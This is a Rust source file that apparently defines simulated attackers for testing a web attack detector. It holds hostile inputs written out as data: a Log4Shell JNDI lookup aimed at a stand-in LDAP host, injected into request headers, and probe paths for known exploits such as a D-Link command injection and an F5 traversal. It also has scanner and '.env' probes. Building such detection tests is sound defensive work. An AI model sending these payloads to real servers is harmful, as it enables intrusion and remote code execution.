//! Who looks around.

use anyhow::Result;

use super::{Attacker, Street};

/// See [`super::all`].
pub const ATTACKERS: &[Attacker] = &[
    Attacker {
        rule: "security-scanner",
        about: "a scanner that says its name, 110 paths",
        act: |street| walk(street, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)", 110),
        raises: &[("security-scanner", "medium"), ("forced-browsing", "low")],
    },
    Attacker {
        rule: "forced-browsing",
        about: "a list of words as paths, by somebody who does not say so",
        act: |street| walk(street, super::super::visitor::BROWSER, 215),
        raises: &[("forced-browsing", "medium")],
    },
    Attacker {
        rule: "sensitive-data-leak",
        about: "looks for a file that should not be there, and finds it",
        act: |street| street.attacker(1).get("/.env", 200).map(|_| ()),
        raises: &[("sensitive-data-leak", "medium")],
    },
    Attacker {
        rule: "known-exploit",
        about: "holes of programs that are not here",
        act: known_exploits,
        raises: &[("known-exploit", "low")],
    },
    Attacker {
        rule: "jndi-injection",
        about: "Log4Shell in each header field",
        act: |street| {
            let mut attacker = street.attacker(1);
            (0..12).try_for_each(|number| {
                let name = ["X-Api-Version", "Referer", "X-Forwarded-Host", "User-Agent"][number % 4];
                let lookup = format!("${{jndi:ldap://198.51.100.9:1389/{number}}}");
                attacker.ask(crate::client::Request::new("GET", "/").header(name, lookup), 200).map(|_| ())
            })
        },
        raises: &[("jndi-injection", "medium")],
    },
];

/// Syllables of which the words of a list are made.
const WORDS: [&str; 16] = [
    "about", "archive", "assets", "blog", "cart", "catalog", "club", "data", "demo", "docs", "events",
    "forum", "help", "images", "intranet", "jobs",
];

fn walk(street: &Street<'_>, program: &str, count: usize) -> Result<()> {
    let mut attacker = street.attacker(1).using(program);
    attacker.get("/", 200)?;
    let mut words =
        WORDS.iter().flat_map(|first| WORDS.iter().map(move |second| format!("/{first}-{second}")));
    words.by_ref().take(count).try_for_each(|path| attacker.get(&path, 404).map(|_| ()))
}

fn known_exploits(street: &Street<'_>) -> Result<()> {
    let mut attacker = street.attacker(1);
    let paths = [
        "/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=",
        "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp",
        "/mifs/aad/api/v2/authorized/users",
        "/webtools/control/forgotPassword/ProgramExport",
        "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx",
        "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
    ];
    paths.iter().try_for_each(|path| attacker.get(path, 404).map(|_| ()))
}
